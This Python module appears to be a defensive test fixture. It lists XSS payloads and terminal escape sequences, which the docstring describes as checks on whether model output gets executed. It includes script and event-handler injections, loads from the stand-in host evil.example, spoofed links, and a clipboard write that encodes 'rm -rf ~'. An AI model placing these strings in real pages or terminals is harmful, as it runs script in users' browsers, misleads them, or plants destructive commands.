"""Texts that a model could say and that a careless page or terminal would run, fetch or obey. What runs in a page sets window.__hit."""

from __future__ import annotations

PAYLOADS = [
    *(
        f"<{tag} {event}=window.__hit=1>"
        for tag in ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee")
        for event in ("onerror", "onload", "onfocus", "ontoggle", "onstart")
    ),
    *(
        f"<script{rest}"
        for rest in (">window.__hit=1</script>", " src=//evil.example/x.js></script>", "/x>window.__hit=1</script>", ">/*", "</")
    ),
    *(
        f"{end}<script>window.__hit=1</script>"
        for end in ("</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</svg>", "</div>", "'>", '">', "`>")
    ),
    *(
        f"<a href='{scheme}window.__hit=1'>x</a>"
        for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,<script>", "vbscript:")
    ),
    *(
        "<iframe src=//evil.example>",
        "<iframe srcdoc='<script>parent.__hit=1</script>'>",
        "<object data=//evil.example>",
        "<embed src=//evil.example>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
    ),
    *(
        "<style>@import '//evil.example';</style>",
        "<form action=//evil.example><button>x</button></form>",
        "<template><script>window.__hit=1</script>",
    ),
    *(
        "{{constructor.constructor('window.__hit=1')()}}",
        "${window.__hit=1}",
        "<%= 1 %>",
        "#{1}",
        "[[1]]",
        "![x](javascript:window.__hit=1)",
    ),
    *(
        "\u202egnp.exe",
        "\u2066\u2067",
        "a\u0000b",
        "\x1b[31mred\x1b]0;title\x07",
        "\u200b\u200d\ufeff",
        "\u2028\u2029",
        "\ud800",
        "&lt;script&gt;",
        "&#x3c;script>",
    ),
    *(
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__hit=1>",
        "<svg><use href=//evil.example#x>",
        "<svg><animate onbegin=window.__hit=1>",
    ),
    *(
        "<svg><style>*{background:url(//evil.example)}</style>",
        "<svg><foreignObject><body onload=window.__hit=1>",
        "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
    ),
    *(f"%3Cscript%3E{n}" for n in range(5)),
    *(f"<img src=//evil.example/{n}>" for n in range(5)),
    *(f"__proto__ constructor prototype {n}" for n in range(3)),
    *("x" * 5000, "\n" * 50, "\t" * 50),
]

ESC, BEL, ST, CSI, OSC = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"
TERMINAL = [
    # OSC: titles, links that say one place and lead to another, the clipboard, colours, notifications
    *(f"{ESC}]0;owned{BEL}", f"{ESC}]2;owned{ST}", f"{ESC}]8;;https://evil{ST}https://good{ESC}]8;;{ST}", f"{ESC}]8;id=1;file:///etc{BEL}x"),
    *(f"{ESC}]52;c;cm0gLXJmIH4K{BEL}", f"{ESC}]52;p;?{ST}", f"{OSC}52;c;eA==\x9c", f"{ESC}]4;1;?{BEL}", f"{ESC}]9;hello{BEL}"),
    *(f"{ESC}]777;notify;a;b{BEL}", f"{ESC}]1337;File=inline=1:AAAA{BEL}", f"{ESC}]50;SetProfile=x{BEL}", f"{ESC}]104{ST}"),
    # CSI: clear, move, colour, hide, scroll back, ask for a report that is typed as input
    *(f"{ESC}[2J{ESC}[H", f"{ESC}[3J", f"{ESC}[31mred{ESC}[0m", f"{ESC}[8mhidden{ESC}[28m", f"{ESC}[1A{ESC}[2K", f"{ESC}[6n", f"{ESC}[c"),
    *(f"{ESC}[?1049h", f"{ESC}[?25l", f"{ESC}[?1000h", f"{ESC}[5i", f"{ESC}[20t", f"{ESC}[200~rm{ESC}[201~", f"{CSI}2J", f"{CSI}31m"),
    # other escapes and device control strings
    *(f"{ESC}c", f"{ESC}7{ESC}8", f"{ESC}(0", f"{ESC}P$q\"p{ST}", f"{ESC}_Gf=100;AAAA{ST}", f"{ESC}^x{ST}", f"{ESC}X{ST}", f"{ESC}"),
    # lone controls: back over what was printed, ring, shift, break a line
    *("ok\rerror", "abc\b\b\bxyz", "\x07\x07", "\x0e\x0f", "a\x0bb\x0cc", "\x00", "\x7f", "\x85", "\x90\x9e\x9f", "\x1a\x04"),
    # what reorders or hides
    *("\u202egnp.exe", "\u2066a\u2069", "\u200bzero\u2060width\ufeff", "\U000e0041\U000e0042", "pass\u200cword", "\u2028\u2029"),
]
